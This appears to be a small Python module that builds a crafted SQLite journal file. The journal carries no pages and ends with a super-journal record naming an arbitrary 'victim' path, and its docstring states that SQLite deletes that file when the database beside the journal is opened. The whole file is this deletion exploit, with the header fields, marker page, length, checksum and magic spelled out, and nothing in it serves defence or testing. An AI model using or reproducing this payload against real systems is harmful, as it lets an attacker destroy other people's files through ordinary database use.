"""A journal that names another file, which SQLite deletes when it opens the database beside it."""

import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
PAGE = 4096


def super_journal(victim: Path) -> bytes:
    """A journal without pages (sqlite.org/fileformat) that ends with the name of a file."""
    name = str(victim).encode()
    header = (MAGIC + struct.pack(">IIIII", 0, 0, 2, 512, PAGE)).ljust(512, b"\0")
    sums = struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF)
    return header + struct.pack(">I", 2**30 // PAGE + 1) + name + sums + MAGIC
